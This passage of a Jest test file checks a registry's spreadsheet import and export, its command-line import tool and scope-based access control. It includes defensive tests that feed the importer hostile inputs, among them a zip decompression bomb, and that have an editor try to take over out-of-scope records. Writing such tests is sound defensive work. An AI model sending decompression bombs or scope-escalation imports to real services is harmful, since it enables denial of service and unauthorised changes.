    expect(text.split('\r\n')[0]).toBe('\ufeffkey;name;shortName;kind;sector;parent;identifiers.orgNumber;identifiers.municipalityNumber;identifiers.districtNumber;identifiers.ror;identifiers.cristin;website;description');
    expect(text).toContain('bydel-grunerlokka;Bydel Grünerløkka;');
  });
});

describe('the round trip on the generated registry (2,000 collaborations, 1,500 people)', () => {
  let dev: TestServer;
  beforeAll(async () => {
    dev = await startTestServer({ dev: true });
  });
  afterAll(() => dev.close());

  it.each(['PEOPLE', 'COLLABORATIONS'])('%s as XLSX imports back with every row unchanged', async (type) => {
    const exported = await dev.gql(`query($t: TableType!) { tableExport(type: $t, format: XLSX) { base64 } }`, { t: type });
    const res = await dev.gql(IMPORT, { input: { type, file: exported.data.tableExport.base64 } });
    const report = res.data.tableImport.report;
    expect(report.problems).toEqual([]);
    expect(report.unchanged).toBe(report.rows.length);
    expect(report.rows.length).toBeGreaterThan(1000);
  });
});

describe('tableImport: who may, and hostile files', () => {
  const sheet = b64('title,kind,units\nScopeprøve,NETWORK,bydel-alna\n');

  it('refuses anonymous callers and VIEWERs; an EDITOR imports only within its scope, checked on the result', async () => {
    const before = await server.snapshot();
    expect((await importTable({ type: 'COLLABORATIONS', file: sheet, apply: true }, null)).errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    expect((await importTable({ type: 'COLLABORATIONS', file: sheet, apply: true }, await server.token('VIEWER'))).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const outside = await importTable({ type: 'COLLABORATIONS', file: sheet, apply: true }, await server.token('EDITOR', ['bydel-frogner']));
    expect(outside.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect(await server.snapshot()).toEqual(before);
    const inside = await importTable({ type: 'COLLABORATIONS', file: sheet, apply: true }, await server.token('EDITOR', ['bydel-alna']));
    expect(inside.data.tableImport.report).toMatchObject({ applied: true, created: 1 });
  });

  it('an EDITOR cannot take over records outside its scope by importing them with a unit of its own', async () => {
    const editor = await server.token('EDITOR', ['bydel-alna']);
    const before = await server.snapshot();
    // A collaboration of OsloMet and Oslo kommune, given Bydel Alna as its only unit.
    const collaboration = await importTable({ type: 'COLLABORATIONS', file: b64('key;Tittel;Type;Enheter\nunikom-oslo-toppledermote;Overtatt;MEETING_PLACE;bydel-alna:LEAD\n'), apply: true }, editor);
    expect([collaboration.errors?.[0]?.extensions?.code, collaboration.errors?.[0]?.message]).toEqual(['FORBIDDEN', 'This collaboration involves no unit in the token’s unit scope.']);
    // A university renamed and moved below Bydel Alna, which would put it inside the scope.
    const unit = await importTable({ type: 'UNITS', file: b64('key;name;parent\nntnu;NTNU kapret;bydel-alna\n'), apply: true }, editor);
    expect([unit.errors?.[0]?.extensions?.code, unit.errors?.[0]?.message]).toEqual(['FORBIDDEN', 'This unit lies outside the token’s unit scope.']);
    expect(await server.snapshot()).toEqual(before);
  });

  it('refuses what is not a table, at once, naming the field, and writes nothing', async () => {
    const before = await server.snapshot();
    const count = await collaborationCount();
    const cases: [Record<string, unknown>, string, RegExp][] = [
      [{ type: 'COLLABORATIONS', file: 'not base64 at all!' }, 'file', /base64/],
      [{ type: 'COLLABORATIONS', file: b64('\n\n') }, 'file', /first row must name the columns/],
      [{ type: 'COLLABORATIONS', file: b64(`title,kind\n${'x,NETWORK\n'.repeat(5001)}`) }, 'file', /at most 5000 rows \(this one has 5001\)/],
      [{ type: 'COLLABORATIONS', file: b64(`${Array.from({ length: 61 }, (_, i) => `c${i}`).join(',')}\n`) }, 'file', /at most 60 columns/],
      [{ type: 'COLLABORATIONS', file: b64(Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(100, 7)])) }, 'file', /cannot be read as XLSX/],
      [{ type: 'COLLABORATIONS', file: b64('title,kind\n"unterminated,NETWORK\n') }, 'file', /cannot be read as CSV|no column/],
    ];
    for (const [input, field, message] of cases) {
      const started = performance.now();
      const res = await importTable(input);
      expect(performance.now() - started).toBeLessThan(2000);
      expect(res.data.tableImport.userErrors[0]).toMatchObject({ field });
      expect(res.data.tableImport.userErrors[0].message).toMatch(message);
    }
    expect(await collaborationCount()).toBe(count);
    expect(await server.snapshot()).toEqual(before);
  });

  it('refuses a workbook that would unpack to more than 50 MB before unpacking it', async () => {
    // 60 MB of one byte compresses to about 60 KB: small to send, large to unpack.
    const bomb = zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(60 * 1024 * 1024) }, { level: 9 });
    expect(bomb.length).toBeLessThan(200_000);
    const started = performance.now();
    const res = await importTable({ type: 'COLLABORATIONS', file: b64(bomb) });
    expect(performance.now() - started).toBeLessThan(1000);
    expect(res.data.tableImport.userErrors[0].message).toMatch(/unpacks to \d+ bytes; at most 52428800 are read/);
  });
});

describe('registry import-table and export-table', () => {
  it('exports a table the command imports back unchanged, dry-runs a coordinator’s file, applies it, and exits 1 on problems', async () => {
    const xlsx = path.join(server.dir, 'units.xlsx');
    const exported = await registry(['export-table', xlsx, '--type', 'units'], server.databaseUrl);
    expect(exported).toMatchObject({ code: 0, stdout: `wrote ${xlsx}\n` });
    const back = await registry(['import-table', xlsx, '--type', 'units'], server.databaseUrl);
    expect(back.code).toBe(0);
    expect(back.stdout).toMatch(/\n0 to create, 0 to change, \d+ unchanged; dry run: nothing was written; add --apply to write it\n$/);

    const csv = path.join(server.dir, 'prosjekter.csv');
    fs.writeFileSync(csv, 'Prosjekt;Form;Deltakere enheter\nKommandolinjeprosjekt;Nettverk;Bydel Alna\n');
    const mapping = path.join(server.dir, 'mapping.json');
    fs.writeFileSync(mapping, JSON.stringify({ 'Deltakere enheter': 'units' }));
    const dry = await registry(['import-table', csv, '--type', 'collaborations', '--mapping', mapping], server.databaseUrl);
    expect(dry.stdout).toContain('  column "Deltakere enheter" → units\n  row 2: CREATE kommandolinjeprosjekt\n1 to create, 0 to change, 0 unchanged; dry run');
    expect((await server.gql('{ collaboration(key: "kommandolinjeprosjekt") { key } }')).data.collaboration).toBeNull();
    const applied = await registry(['import-table', csv, '--type', 'collaborations', '--mapping', mapping, '--apply'], server.databaseUrl);
    expect(applied.stdout).toMatch(/; applied\n$/);
    expect((await server.gql('{ collaboration(key: "kommandolinjeprosjekt") { units { unit { key } } } }')).data.collaboration.units).toEqual([{ unit: { key: 'bydel-alna' } }]);

    fs.writeFileSync(csv, 'Prosjekt;Form;Start\nFeil dato;Nettverk;høsten 2021\n');
    const bad = await registry(['import-table', csv, '--type', 'collaborations', '--apply'], server.databaseUrl);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toContain('  row 2, column "Start": "høsten 2021" names a part of the year, not a date: the registry stores days and does not guess which day a season or quarter starts; write the month it starts ("august 2021" or "8/2021") or the day\n');
    expect(bad.stdout).toMatch(/1 problem\(s\): nothing was written\n$/);
    const wrongType = await registry(['import-table', csv, '--type', 'projects'], server.databaseUrl);
    expect(wrongType).toMatchObject({ code: 1, stderr: '--type: must be one of units, people, agreements, collaborations\n' });
  });
});
